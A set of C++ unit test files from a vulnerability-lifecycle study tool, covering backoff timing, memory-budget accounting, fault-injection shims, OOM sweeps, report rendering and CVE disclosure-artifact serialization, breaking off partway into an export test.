  policy.backoff_base = microseconds(500);
  policy.backoff_multiplier = 2.0;
  policy.backoff_cap = microseconds(50'000);
  EXPECT_EQ(policy.delay(0), microseconds(500));
  EXPECT_EQ(policy.delay(1), microseconds(1000));
  EXPECT_EQ(policy.delay(2), microseconds(2000));
  EXPECT_EQ(policy.delay(6), microseconds(32'000));
  EXPECT_EQ(policy.delay(7), microseconds(50'000));  // capped
  EXPECT_EQ(policy.delay(1000), microseconds(50'000));  // huge index: capped, no overflow
}

}  // namespace
}  // namespace cvewb::util
