// Memory-budget semantics: the ledger the whole resource model stands on.
// The load-bearing properties are watermark arithmetic (soft signals, hard
// refuses, landing exactly at hard is the last admissible charge), balanced
// accounting through the RAII holders, and the probe-only contract of
// gate_allocation -- a successful gate must leave nothing charged, or every
// transient codec buffer would leak ledger entries.
#include "util/memory_budget.h"

#include <gtest/gtest.h>

#include <cstdint>
#include <limits>

namespace cvewb::util {
namespace {

TEST(MemoryBudget, ChargeReleaseLedgerBalances) {
  MemoryBudget budget;
  EXPECT_EQ(budget.charged(), 0u);
  EXPECT_TRUE(budget.try_charge(100));
  EXPECT_TRUE(budget.try_charge(50));
  EXPECT_EQ(budget.charged(), 150u);
  EXPECT_EQ(budget.peak(), 150u);
  budget.release(50);
  EXPECT_EQ(budget.charged(), 100u);
  EXPECT_EQ(budget.peak(), 150u);  // peak is a high-water mark
  budget.release(100);
  EXPECT_EQ(budget.charged(), 0u);
  // Defensive clamp: over-release never wraps the ledger.
  budget.release(1u << 20);
  EXPECT_EQ(budget.charged(), 0u);
}

TEST(MemoryBudget, ZeroByteChargesAreFreeEvenAtTheHardWatermark) {
  MemoryBudget budget;
  budget.set_limits(0, 10);
  ASSERT_TRUE(budget.try_charge(10));
  EXPECT_TRUE(budget.try_charge(0));
  EXPECT_EQ(budget.charged(), 10u);
}

TEST(MemoryBudget, SoftWatermarkSignalsWithoutRefusing) {
  MemoryBudget budget;
  budget.set_limits(100, 0);  // soft only; hard unlimited
  EXPECT_EQ(budget.pressure(), MemoryBudget::Pressure::kNone);
  ASSERT_TRUE(budget.try_charge(99));
  EXPECT_EQ(budget.pressure(), MemoryBudget::Pressure::kNone);
  ASSERT_TRUE(budget.try_charge(1));  // lands exactly at soft
  EXPECT_EQ(budget.pressure(), MemoryBudget::Pressure::kSoft);
  // Soft never refuses, no matter how far past it the ledger runs.
  EXPECT_TRUE(budget.try_charge(1u << 20));
  EXPECT_EQ(budget.pressure(), MemoryBudget::Pressure::kSoft);
  EXPECT_EQ(budget.hard_denials(), 0u);
}

TEST(MemoryBudget, HardWatermarkRefusesPastTheLimit) {
  MemoryBudget budget;
  budget.set_limits(0, 100);
  // Landing exactly at the hard watermark is the last admissible charge...
  ASSERT_TRUE(budget.try_charge(100));
  EXPECT_EQ(budget.pressure(), MemoryBudget::Pressure::kHard);
  // ...and anything past it is refused without touching the ledger.
  EXPECT_FALSE(budget.try_charge(1));
  EXPECT_EQ(budget.charged(), 100u);
  EXPECT_EQ(budget.hard_denials(), 1u);
  // A single oversized charge is refused even from an empty ledger.
  budget.release(100);
  EXPECT_FALSE(budget.try_charge(101));
  EXPECT_EQ(budget.charged(), 0u);
  EXPECT_EQ(budget.hard_denials(), 2u);
}

TEST(MemoryBudget, HardLimitBelowSoftIsClampedUp) {
  MemoryBudget budget;
  budget.set_limits(100, 50);
  EXPECT_EQ(budget.soft_limit(), 100u);
  EXPECT_EQ(budget.hard_limit(), 100u);  // soft must trip first by construction
}

TEST(MemoryBudget, RemainingReportsHeadroomToTheHardWatermark) {
  MemoryBudget budget;
  EXPECT_EQ(budget.remaining(), std::numeric_limits<std::uint64_t>::max());
  budget.set_limits(0, 100);
  EXPECT_EQ(budget.remaining(), 100u);
  ASSERT_TRUE(budget.try_charge(40));
  EXPECT_EQ(budget.remaining(), 60u);
  ASSERT_TRUE(budget.try_charge(60));
  EXPECT_EQ(budget.remaining(), 0u);
}

TEST(MemoryBudget, BudgetChargeReleasesOnDestruction) {
  MemoryBudget budget;
  {
    BudgetCharge charge;
    EXPECT_FALSE(charge.held());
    ASSERT_TRUE(charge.acquire(budget, 64));
    EXPECT_TRUE(charge.held());
    EXPECT_EQ(charge.bytes(), 64u);
    EXPECT_EQ(budget.charged(), 64u);
  }
  EXPECT_EQ(budget.charged(), 0u);
}

TEST(MemoryBudget, BudgetChargeReacquireReplacesThePreviousCharge) {
  MemoryBudget budget;
  BudgetCharge charge;
  ASSERT_TRUE(charge.acquire(budget, 64));
  // Growing a buffer re-acquires for the new capacity; the old entry is
  // released first so the ledger never double-counts one owner.
  ASSERT_TRUE(charge.acquire(budget, 256));
  EXPECT_EQ(budget.charged(), 256u);
  EXPECT_EQ(charge.bytes(), 256u);
  charge.reset();
  EXPECT_EQ(budget.charged(), 0u);
  EXPECT_FALSE(charge.held());
}

TEST(MemoryBudget, FailedAcquireLeavesTheHolderEmptyAndReleasesThePrior) {
  MemoryBudget budget;
  budget.set_limits(0, 100);
  BudgetCharge charge;
  ASSERT_TRUE(charge.acquire(budget, 80));
  // The re-acquire releases the 80 first; 200 then fails against hard=100,
  // so the holder ends empty -- the refusal is total, not partial.
  EXPECT_FALSE(charge.acquire(budget, 200));
  EXPECT_FALSE(charge.held());
  EXPECT_EQ(charge.bytes(), 0u);
  EXPECT_EQ(budget.charged(), 0u);
}

TEST(MemoryBudget, ResizeKeepsThePriorChargeWhenGrowthIsRefused) {
  MemoryBudget budget;
  budget.set_limits(0, 100);
  BudgetCharge charge;
  ASSERT_TRUE(charge.resize(budget, 80));  // empty holder: plain acquire
  EXPECT_EQ(budget.charged(), 80u);
  // Growth past hard is refused, but the owner still holds the 80 bytes of
  // live buffers the old charge covered -- the ledger must keep saying so
  // (acquire() would release first and leave them unaccounted).
  EXPECT_FALSE(charge.resize(budget, 200));
  EXPECT_TRUE(charge.held());
  EXPECT_EQ(charge.bytes(), 80u);
  EXPECT_EQ(budget.charged(), 80u);
  EXPECT_EQ(budget.hard_denials(), 1u);
}

TEST(MemoryBudget, ResizeChargesOnlyTheDeltaAndShrinksFreely) {
  MemoryBudget budget;
  budget.set_limits(0, 100);
  BudgetCharge charge;
  ASSERT_TRUE(charge.resize(budget, 60));
  ASSERT_TRUE(charge.resize(budget, 100));  // delta of 40 lands exactly at hard
  EXPECT_EQ(budget.charged(), 100u);
  EXPECT_EQ(charge.bytes(), 100u);
  ASSERT_TRUE(charge.resize(budget, 25));  // shrinking releases the difference
  EXPECT_EQ(budget.charged(), 25u);
  EXPECT_EQ(charge.bytes(), 25u);
  charge.reset();
  EXPECT_EQ(budget.charged(), 0u);
}

TEST(MemoryBudget, BudgetChargeMoveTransfersOwnership) {
  MemoryBudget budget;
  BudgetCharge a;
  ASSERT_TRUE(a.acquire(budget, 32));
  BudgetCharge b = std::move(a);
  EXPECT_FALSE(a.held());
  EXPECT_TRUE(b.held());
  EXPECT_EQ(budget.charged(), 32u);
  b.reset();
  EXPECT_EQ(budget.charged(), 0u);
}

TEST(MemoryBudget, ScopedLimitsRestoreOnExit) {
  MemoryBudget& process = MemoryBudget::process();
  const std::uint64_t prev_soft = process.soft_limit();
  const std::uint64_t prev_hard = process.hard_limit();
  {
    ScopedBudgetLimits limits(1u << 20, 1u << 21);
    EXPECT_EQ(process.soft_limit(), 1u << 20);
    EXPECT_EQ(process.hard_limit(), 1u << 21);
  }
  EXPECT_EQ(process.soft_limit(), prev_soft);
  EXPECT_EQ(process.hard_limit(), prev_hard);
}

TEST(MemoryBudget, GateAllocationProbesWithoutHoldingACharge) {
  const std::uint64_t baseline = MemoryBudget::process().charged();
  ScopedBudgetLimits limits(0, baseline + 4096);
  EXPECT_NO_THROW(gate_allocation(1024, "test"));
  // Probe only: a successful gate leaves the ledger where it found it.
  EXPECT_EQ(MemoryBudget::process().charged(), baseline);
}

TEST(MemoryBudget, GateAllocationThrowsPastTheHardWatermark) {
  const std::uint64_t baseline = MemoryBudget::process().charged();
  ScopedBudgetLimits limits(0, baseline + 100);
  EXPECT_THROW(gate_allocation(101, "test"), ResourceExhausted);
  EXPECT_EQ(MemoryBudget::process().charged(), baseline);
  EXPECT_NO_THROW(gate_allocation(100, "test"));
}

}  // namespace
}  // namespace cvewb::util
