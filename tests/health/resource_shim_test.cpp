// Resource-shim semantics: the deterministic OOM/fd fault layer under the
// health suite.  The properties the OOM matrix and the fd-exhaustion e2e
// lean on are all here: injection is a pure function of (plan, op class,
// op index); the exact-op triggers are one-shot; the fd window fails a
// contiguous stretch and nothing else; a transparent shim counts the op
// census without perturbing anything; and the installed shim is what
// util::gate_allocation and store::MappedFile actually consult.
#include "chaos/resource_shim.h"

#include <gtest/gtest.h>

#include <cstdint>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "store/error.h"
#include "store/mmap_file.h"
#include "util/memory_budget.h"

namespace cvewb::chaos {
namespace {

namespace fs = std::filesystem;

fs::path fresh_dir(const std::string& name) {
  const fs::path dir = fs::temp_directory_path() / "cvewb_health" / name;
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir;
}

TEST(ResourceShim, TransparentShimCountsButNeverInjects) {
  ResourceShim shim;  // default plan: census only
  for (int i = 0; i < 32; ++i) {
    EXPECT_FALSE(shim.should_fail_alloc(1024, "test"));
    EXPECT_FALSE(shim.should_fail_fd());
  }
  const ResourceShimStats stats = shim.stats();
  EXPECT_EQ(stats.allocs, 32u);
  EXPECT_EQ(stats.fds, 32u);
  EXPECT_EQ(stats.injected_alloc_failures, 0u);
  EXPECT_EQ(stats.injected_fd_failures, 0u);
}

TEST(ResourceShim, ExactAllocTriggerIsOneShot) {
  ResourceFaultPlan plan;
  plan.fail_alloc_at = 3;
  ResourceShim shim(plan);
  std::vector<bool> failed;
  for (int i = 0; i < 6; ++i) failed.push_back(shim.should_fail_alloc(64, "test"));
  EXPECT_EQ(failed, (std::vector<bool>{false, false, true, false, false, false}));
  EXPECT_EQ(shim.stats().injected_alloc_failures, 1u);
  EXPECT_EQ(shim.stats().allocs, 6u);
}

TEST(ResourceShim, ExactFdTriggerIsIndependentOfTheAllocCounter) {
  ResourceFaultPlan plan;
  plan.fail_fd_at = 2;
  ResourceShim shim(plan);
  // Alloc ops advance their own counter; the fd trigger must not care.
  EXPECT_FALSE(shim.should_fail_alloc(64, "test"));
  EXPECT_FALSE(shim.should_fail_alloc(64, "test"));
  EXPECT_FALSE(shim.should_fail_fd());
  EXPECT_TRUE(shim.should_fail_fd());
  EXPECT_FALSE(shim.should_fail_fd());
  EXPECT_EQ(shim.stats().injected_fd_failures, 1u);
  EXPECT_EQ(shim.stats().injected_alloc_failures, 0u);
}

TEST(ResourceShim, FdWindowFailsExactlyTheCoveredStretch) {
  ResourceFaultPlan plan;
  plan.fail_fd_from = 2;
  plan.fail_fd_to = 4;
  ResourceShim shim(plan);
  std::vector<bool> failed;
  for (int i = 0; i < 6; ++i) failed.push_back(shim.should_fail_fd());
  EXPECT_EQ(failed, (std::vector<bool>{false, true, true, true, false, false}));
  EXPECT_EQ(shim.stats().injected_fd_failures, 3u);
}

TEST(ResourceShim, RateInjectionIsDeterministicPerPlan) {
  ResourceFaultPlan plan;
  plan.seed = 7;
  plan.alloc_fail_rate = 0.5;
  ResourceShim first(plan);
  ResourceShim second(plan);
  int failures = 0;
  for (int i = 0; i < 128; ++i) {
    const bool a = first.should_fail_alloc(64, "test");
    const bool b = second.should_fail_alloc(64, "test");
    EXPECT_EQ(a, b) << "op " << i << " diverged between identical plans";
    failures += a ? 1 : 0;
  }
  // A 0.5 rate over 128 ops fails some and passes some (deterministically).
  EXPECT_GT(failures, 0);
  EXPECT_LT(failures, 128);
}

TEST(ResourceShim, ScopedInstallNestsAndRestores) {
  EXPECT_EQ(ResourceShim::current(), nullptr);
  ResourceShim outer;
  {
    ScopedResourceShim outer_scope(outer);
    EXPECT_EQ(ResourceShim::current(), &outer);
    ResourceShim inner;
    {
      ScopedResourceShim inner_scope(inner);
      EXPECT_EQ(ResourceShim::current(), &inner);
    }
    EXPECT_EQ(ResourceShim::current(), &outer);
  }
  EXPECT_EQ(ResourceShim::current(), nullptr);
}

TEST(ResourceShim, GateAllocationRoutesThroughTheInstalledShim) {
  ResourceFaultPlan plan;
  plan.fail_alloc_at = 1;
  ResourceShim shim(plan);
  ScopedResourceShim scope(shim);
  EXPECT_THROW(util::gate_allocation(4096, "test"), util::ResourceExhausted);
  // One-shot: the very next gated allocation goes through.
  EXPECT_NO_THROW(util::gate_allocation(4096, "test"));
  EXPECT_EQ(shim.stats().injected_alloc_failures, 1u);
  EXPECT_EQ(shim.stats().allocs, 2u);
}

TEST(ResourceShim, UninstalledShimLeavesGateAllocationAlone) {
  ASSERT_EQ(ResourceShim::current(), nullptr);
  EXPECT_NO_THROW(util::gate_allocation(4096, "test"));
}

// Satellite regression: fd exhaustion on the snapshot-load path must come
// back as a structured StoreError with the resource class -- previously an
// open/mmap failure was indistinguishable from generic I/O trouble.
TEST(ResourceShim, MappedFileReportsFdExhaustionAsAResourceError) {
  const fs::path dir = fresh_dir("mmap_fd");
  const fs::path file = dir / "blob.bin";
  {
    std::ofstream out(file, std::ios::binary);
    out << std::string(4096, 'x');
  }
  ResourceFaultPlan plan;
  plan.fail_fd_at = 1;
  ResourceShim shim(plan);
  {
    ScopedResourceShim scope(shim);
    store::MappedFile mapped;
    store::StoreError error;
    EXPECT_FALSE(mapped.map(file, &error));
    EXPECT_EQ(error.code, store::StoreErrorCode::kResource) << error.detail;
    EXPECT_FALSE(error.detail.empty());
  }
  EXPECT_EQ(shim.stats().injected_fd_failures, 1u);
  // Pressure gone (shim uninstalled): the same file maps fine.
  store::MappedFile mapped;
  store::StoreError error;
  ASSERT_TRUE(mapped.map(file, &error)) << error.detail;
  EXPECT_EQ(mapped.view().size(), 4096u);
}

}  // namespace
}  // namespace cvewb::chaos
