// The OOM matrix: walk a deterministic allocation failpoint across the
// charged allocations of a full supervised study and require that every
// induced failure resolves one of exactly two ways --
//
//   * with the supervisor's resource retry enabled, the run completes and
//     its digest is byte-identical to the unfaulted reference;
//   * with retries disabled, the run either completes identically (the
//     failing site absorbed the fault structurally: a skipped cache write,
//     a best-effort store ingest) or fails with a structured, retryable
//     resource_exhausted report.
//
// Never a crash, never a wrong digest, never an unclassified exception --
// under ASan/UBSan when CVEWB_SANITIZE is on.  A transparent shim first
// counts the op census; the sweep then samples failpoint positions across
// that range (every position is admissible; the sample bounds wall-clock
// on the 1-core CI container).
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <filesystem>
#include <string>
#include <vector>

#include "cache/serialize.h"
#include "chaos/resource_shim.h"
#include "pipeline/study.h"
#include "pipeline/supervisor.h"
#include "util/sha256.h"

namespace cvewb::pipeline {
namespace {

namespace fs = std::filesystem;

constexpr double kScale = 0.005;

fs::path fresh_dir(const std::string& name) {
  const fs::path dir = fs::temp_directory_path() / "cvewb_health_oom" / name;
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir;
}

StudyConfig matrix_config(const std::string& tag, int resource_retries) {
  StudyConfig config;
  config.seed = 7;
  config.threads = 1;
  config.event_scale = kScale;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50'000;
  config.resource_retries = resource_retries;
  // Cache and store on: their codec buffers and snapshot/WAL builders are
  // charged allocation sites, so the sweep covers them too.
  config.cache_dir = fresh_dir(tag + "_cache").string();
  config.store_dir = fresh_dir(tag + "_store").string();
  return config;
}

std::string digest_of(const StudyResult& result) {
  return util::sha256_hex(cache::encode_study_result(result));
}

TEST(OomMatrix, EveryInducedAllocationFailureIsRetriedOrStructured) {
  // Census pass: a transparent shim counts every charged allocation of an
  // unfaulted supervised run and yields the reference digest.
  std::uint64_t census = 0;
  std::string reference;
  {
    chaos::ResourceShim shim;
    chaos::ScopedResourceShim scope(shim);
    RunSupervisor supervisor(matrix_config("census", 0));
    const RunReport report = supervisor.run();
    ASSERT_TRUE(report.ok()) << report.message;
    reference = digest_of(*report.result);
    census = shim.stats().allocs;
    EXPECT_EQ(shim.stats().injected_alloc_failures, 0u);
  }
  ASSERT_GT(census, 0u) << "no charged allocation sites consulted the shim";

  // Sample failpoint positions across the census: both endpoints plus
  // evenly spaced interior points.
  constexpr std::uint64_t kSamples = 6;
  std::vector<std::uint64_t> positions;
  const std::uint64_t points = std::min(kSamples, census);
  for (std::uint64_t i = 0; i < points; ++i) {
    const std::uint64_t k =
        points == 1 ? 1 : 1 + i * (census - 1) / (points - 1);
    if (positions.empty() || positions.back() != k) positions.push_back(k);
  }

  int run = 0;
  for (const std::uint64_t k : positions) {
    for (const int retries : {1, 0}) {
      const std::string tag = "k" + std::to_string(k) + "_r" + std::to_string(retries);
      chaos::ResourceFaultPlan plan;
      plan.fail_alloc_at = k;
      chaos::ResourceShim shim(plan);
      chaos::ScopedResourceShim scope(shim);
      RunSupervisor supervisor(matrix_config(tag, retries));
      const RunReport report = supervisor.run();
      ++run;
      EXPECT_GE(shim.stats().injected_alloc_failures, 1u)
          << tag << ": the failpoint never fired";
      if (retries == 1) {
        // One-shot failure + one reduced-footprint retry: the run must
        // complete, byte-identical.
        ASSERT_TRUE(report.ok()) << tag << ": " << report.message;
        EXPECT_EQ(digest_of(*report.result), reference) << tag;
      } else if (report.ok()) {
        // The failing site absorbed the fault structurally; the result
        // must still be byte-identical.
        EXPECT_EQ(digest_of(*report.result), reference) << tag;
      } else {
        EXPECT_EQ(report.status, RunStatus::kFailed) << tag << ": " << report.message;
        EXPECT_TRUE(report.resource_exhausted)
            << tag << ": unstructured failure: " << report.message;
        EXPECT_EQ(report.error_class, ErrorClass::kRetryable) << tag;
      }
    }
  }
  EXPECT_EQ(run, static_cast<int>(positions.size()) * 2);
}

}  // namespace
}  // namespace cvewb::pipeline
