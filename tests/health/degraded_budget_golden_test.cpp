// Golden proof that memory-budget degradation is result-neutral.
//
// Under soft pressure the engine changes *how* it works -- arenas grow in
// smaller chunks, the stage cache skips writes, the daemon stops admitting
// detached jobs -- but never *what* it computes: the StudyResult digest is
// byte-identical to an unpressured run.  Past the hard watermark the
// failure is a structured, retryable resource_exhausted, and the same
// configuration runs clean once pressure subsides.
#include <gtest/gtest.h>

#include <filesystem>
#include <string>

#include "cache/serialize.h"
#include "obs/observability.h"
#include "pipeline/study.h"
#include "pipeline/supervisor.h"
#include "util/memory_budget.h"
#include "util/sha256.h"

namespace cvewb::pipeline {
namespace {

namespace fs = std::filesystem;

constexpr double kScale = 0.01;

fs::path fresh_dir(const std::string& name) {
  const fs::path dir = fs::temp_directory_path() / "cvewb_health" / name;
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir;
}

StudyConfig small_config() {
  StudyConfig config;
  config.seed = 5;
  config.threads = 1;
  config.event_scale = kScale;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50'000;
  return config;
}

std::string digest_of(const StudyResult& result) {
  return util::sha256_hex(cache::encode_study_result(result));
}

/// Unpressured reference digest, computed once per binary.
const std::string& reference_digest() {
  static const std::string digest = digest_of(run_study(small_config()));
  return digest;
}

TEST(DegradedBudgetGolden, SoftPressureIsResultNeutral) {
  const std::string reference = reference_digest();

  // Permanent soft pressure: a 1-byte soft watermark plus a 1-byte held
  // charge keeps pressure() at kSoft for the whole run, so every
  // degradation path (small arena chunks, cache skip-writes) is live.
  util::ScopedBudgetLimits limits(1, 0);
  util::BudgetCharge pressure;
  ASSERT_TRUE(pressure.acquire(util::MemoryBudget::process(), 1));
  ASSERT_EQ(util::MemoryBudget::process().pressure(),
            util::MemoryBudget::Pressure::kSoft);

  obs::Observability observability;
  StudyConfig degraded = small_config();
  degraded.cache_dir = fresh_dir("degraded_cache").string();
  degraded.observability = &observability;
  EXPECT_EQ(digest_of(run_study(degraded)), reference)
      << "soft-pressure degradation changed result bytes";

  // The degradation actually engaged: the stage cache refused its writes
  // under pressure instead of spending memory on encode buffers.
  const auto counters = observability.metrics.snapshot().counters;
  const auto skipped = counters.find("cache/skipped_budget");
  ASSERT_NE(skipped, counters.end()) << "cache never consulted the budget";
  EXPECT_GT(skipped->second, 0u);
}

TEST(DegradedBudgetGolden, HardWatermarkIsStructuredAndRecoverable) {
  const std::string reference = reference_digest();

  StudyConfig config = small_config();
  config.resource_retries = 0;  // surface the first refusal, no retry
  {
    // A hard watermark no study fits under: the first charged allocation
    // (arena chunk, column fill, codec buffer) is refused.
    util::ScopedBudgetLimits limits(1, 1024);
    RunSupervisor supervisor(config);
    const RunReport report = supervisor.run();
    EXPECT_EQ(report.status, RunStatus::kFailed) << report.message;
    EXPECT_TRUE(report.resource_exhausted) << report.message;
    EXPECT_EQ(report.error_class, ErrorClass::kRetryable);
    EXPECT_FALSE(report.resource_retried);
  }
  // Pressure subsided (limits restored): the identical configuration now
  // completes, byte-identical to the never-pressured reference.
  RunSupervisor supervisor(config);
  const RunReport report = supervisor.run();
  ASSERT_TRUE(report.ok()) << report.message;
  EXPECT_EQ(digest_of(*report.result), reference);
}

TEST(DegradedBudgetGolden, SupervisorRetriesAtReducedFootprintUnderTransientPressure) {
  const std::string reference = reference_digest();

  // A one-shot injected allocation failure models transient pressure: the
  // first attempt dies on it, the supervisor's reduced-footprint retry
  // (threads=1, DAG off) runs after the failpoint is spent and must
  // converge to the reference digest.  The OOM matrix sweeps this same
  // contract across every sampled failpoint position.
  static int fires;
  fires = 0;
  util::set_alloc_failpoint(+[](std::uint64_t, const char*) {
    return ++fires == 1;  // exactly the first charged allocation fails
  });
  StudyConfig config = small_config();
  config.resource_retries = 1;
  RunSupervisor supervisor(config);
  const RunReport report = supervisor.run();
  util::set_alloc_failpoint(nullptr);
  ASSERT_TRUE(report.ok()) << report.message;
  EXPECT_TRUE(report.resource_retried);
  EXPECT_EQ(digest_of(*report.result), reference)
      << "reduced-footprint retry changed result bytes";
}

}  // namespace
}  // namespace cvewb::pipeline
