#include <gtest/gtest.h>

#include <sstream>

#include "report/figures.h"
#include "report/table.h"

namespace cvewb::report {
namespace {

TEST(TextTable, AlignsAndRenders) {
  TextTable table({"Desideratum", "Rate"});
  table.add_row({"V < A", "0.90"});
  table.add_row({"D < A (long)", "0.56"});
  const std::string out = table.render();
  EXPECT_NE(out.find("| Desideratum  | Rate |"), std::string::npos);
  EXPECT_NE(out.find("| V < A        | 0.90 |"), std::string::npos);
}

TEST(TextTable, RejectsColumnMismatch) {
  TextTable table({"a", "b"});
  EXPECT_THROW(table.add_row({"only-one"}), std::invalid_argument);
}

TEST(Fmt, FixedDecimals) {
  EXPECT_EQ(fmt(0.5), "0.50");
  EXPECT_EQ(fmt(-0.214, 2), "-0.21");
  EXPECT_EQ(fmt(3.14159, 4), "3.1416");
}

TEST(PaperConstants, NineEntriesEach) {
  EXPECT_EQ(paper_table4_satisfied().size(), 9u);
  EXPECT_EQ(paper_table4_skill().size(), 9u);
  EXPECT_EQ(paper_table5_satisfied().size(), 9u);
  EXPECT_EQ(paper_table5_skill().size(), 9u);
}

TEST(SkillTableRender, IncludesPaperColumnsWhenProvided) {
  const auto table = lifecycle::skill_table(lifecycle::study_timelines());
  const std::string out =
      render_skill_table(table, &paper_table4_satisfied(), &paper_table4_skill());
  EXPECT_NE(out.find("Paper satisfied"), std::string::npos);
  EXPECT_NE(out.find("V < A"), std::string::npos);
  EXPECT_NE(out.find("X < A"), std::string::npos);
}

TEST(Figures, EcdfSeriesMonotone) {
  const stats::Ecdf ecdf({3.0, 1.0, 2.0, 2.0});
  const util::Series series = ecdf_series("test", ecdf);
  ASSERT_FALSE(series.x.empty());
  for (std::size_t i = 1; i < series.x.size(); ++i) {
    EXPECT_GE(series.x[i], series.x[i - 1]);
    EXPECT_GE(series.y[i], series.y[i - 1]);
  }
  EXPECT_DOUBLE_EQ(series.y.back(), 1.0);
}

TEST(Figures, HistogramSeriesUsesBinCenters) {
  stats::Histogram hist(0.0, 10.0, 2);
  hist.add(1.0);
  hist.add(6.0);
  hist.add(7.0);
  const util::Series series = histogram_series("h", hist);
  ASSERT_EQ(series.x.size(), 2u);
  EXPECT_DOUBLE_EQ(series.x[0], 2.5);
  EXPECT_DOUBLE_EQ(series.y[1], 2.0);
}

TEST(Figures, PrintFigureEmitsCsvAndPlot) {
  std::ostringstream out;
  util::Series s{"cdf", {0.0, 1.0}, {0.0, 1.0}};
  util::PlotOptions options;
  options.y_unit_interval = true;
  print_figure(out, "Figure T: test", {s}, options);
  const std::string text = out.str();
  EXPECT_NE(text.find("== Figure T: test =="), std::string::npos);
  EXPECT_NE(text.find("series,x,y"), std::string::npos);
  EXPECT_NE(text.find("cdf,0,0"), std::string::npos);
}

TEST(Figures, PrintComparisonShowsDelta) {
  std::ostringstream out;
  print_comparison(out, "D < A", 0.56, 0.58);
  EXPECT_NE(out.str().find("paper=0.56"), std::string::npos);
  EXPECT_NE(out.str().find("measured=0.58"), std::string::npos);
  EXPECT_NE(out.str().find("+0.02"), std::string::npos);
}

}  // namespace
}  // namespace cvewb::report
