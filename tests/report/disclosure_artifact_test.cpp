#include "report/disclosure_artifact.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "data/talos.h"

namespace cvewb::report {
namespace {

TEST(DisclosureArtifact, BuiltFromTimelineCarriesAllEvents) {
  const auto timelines = lifecycle::study_timelines();
  const auto it = std::find_if(timelines.begin(), timelines.end(), [](const auto& tl) {
    return tl.cve_id() == "CVE-2021-44228";
  });
  ASSERT_NE(it, timelines.end());
  const DisclosureArtifact artifact = artifact_for(*it);
  EXPECT_EQ(artifact.cve_id, "CVE-2021-44228");
  EXPECT_FALSE(artifact.disclosures.empty());
  ASSERT_EQ(artifact.fixes.size(), 1u);
  EXPECT_EQ(artifact.fixes[0].party, "ids-vendor");
  ASSERT_TRUE(artifact.public_awareness.has_value());
  ASSERT_EQ(artifact.known_exploitation.size(), 1u);
  EXPECT_EQ(artifact.known_exploitation[0].party, "telescope");
}

TEST(DisclosureArtifact, TalosDisclosureListedAsSeparateParty) {
  const auto timelines = lifecycle::study_timelines();
  const auto it = std::find_if(timelines.begin(), timelines.end(), [](const auto& tl) {
    return tl.cve_id() == "CVE-2021-21799";
  });
  ASSERT_NE(it, timelines.end());
  const DisclosureArtifact artifact = artifact_for(*it);
  ASSERT_GE(artifact.disclosures.size(), 2u);
  EXPECT_EQ(artifact.disclosures[0].party, "ids-vendor");
  EXPECT_EQ(artifact.disclosures[0].date, *data::talos_disclosure("CVE-2021-21799"));
}

TEST(DisclosureArtifact, RetrospectiveExploitationFlagged) {
  const auto timelines = lifecycle::study_timelines();
  const auto it = std::find_if(timelines.begin(), timelines.end(), [](const auto& tl) {
    return tl.cve_id() == "CVE-2022-1388";  // attacks a year before publication
  });
  ASSERT_NE(it, timelines.end());
  const DisclosureArtifact artifact = artifact_for(*it);
  ASSERT_EQ(artifact.known_exploitation.size(), 1u);
  EXPECT_NE(artifact.known_exploitation[0].note.find("retrospectively"), std::string::npos);
}

TEST(DisclosureArtifact, JsonRoundTrip) {
  const auto timelines = lifecycle::study_timelines();
  const DisclosureArtifact original = artifact_for(timelines.front());
  const auto parsed = DisclosureArtifact::from_json(original.to_json());
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->cve_id, original.cve_id);
  EXPECT_EQ(parsed->disclosures.size(), original.disclosures.size());
  EXPECT_EQ(parsed->public_awareness, original.public_awareness);
  EXPECT_EQ(parsed->known_exploitation.size(), original.known_exploitation.size());
  for (std::size_t i = 0; i < original.disclosures.size(); ++i) {
    EXPECT_EQ(parsed->disclosures[i].party, original.disclosures[i].party);
    EXPECT_EQ(parsed->disclosures[i].date, original.disclosures[i].date);
    EXPECT_EQ(parsed->disclosures[i].note, original.disclosures[i].note);
  }
}

TEST(DisclosureArtifact, DocumentRoundTripCoversWholeStudy) {
  const auto timelines = lifecycle::study_timelines();
  const util::Json document = artifacts_document(timelines);
  const auto parsed = parse_artifacts_document(document.dump(2));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->size(), timelines.size());
  EXPECT_EQ((*parsed)[0].cve_id, timelines[0].cve_id());
}

TEST(DisclosureArtifact, ParseRejectsMalformedDocuments) {
  EXPECT_FALSE(parse_artifacts_document("not json").has_value());
  EXPECT_FALSE(parse_artifacts_document("{}").has_value());
  EXPECT_FALSE(parse_artifacts_document(R"({"artifacts":[{"no_cve":1}]})").has_value());
  EXPECT_FALSE(
      parse_artifacts_document(R"({"artifacts":[{"cve":"C","disclosures":[{"party":"v"}]}]})")
          .has_value());  // event missing date
}

}  // namespace
}  // namespace cvewb::report
