#include "report/export.h"

#include "report/disclosure_artifact.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

namespace cvewb::report {
namespace {

namespace fs = std::filesystem;

std::string slurp(const fs::path& path) {
  std::ifstream in(path);
  std::stringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

class ExportTest : public ::testing::Test {
 protected:
  void SetUp() override {
    directory_ = fs::temp_directory_path() /
                 ("cvewb_export_test_" + std::to_string(::getpid()));
    fs::remove_all(directory_);
  }
  void TearDown() override { fs::remove_all(directory_); }

  fs::path directory_;
};

TEST_F(ExportTest, WritesFigureCsvAndGnuplot) {
  ExportedFigure figure;
  figure.name = "fig_test";
  figure.title = "Test figure";
  figure.x_label = "days";
  figure.cdf = true;
  figure.series = {util::Series{"a", {0.0, 1.0}, {0.0, 1.0}},
                   util::Series{"b", {0.0, 2.0}, {0.5, 1.0}}};
  const fs::path csv = write_figure(directory_, figure);
  EXPECT_TRUE(fs::exists(csv));
  const std::string csv_text = slurp(csv);
  EXPECT_NE(csv_text.find("series,x,y"), std::string::npos);
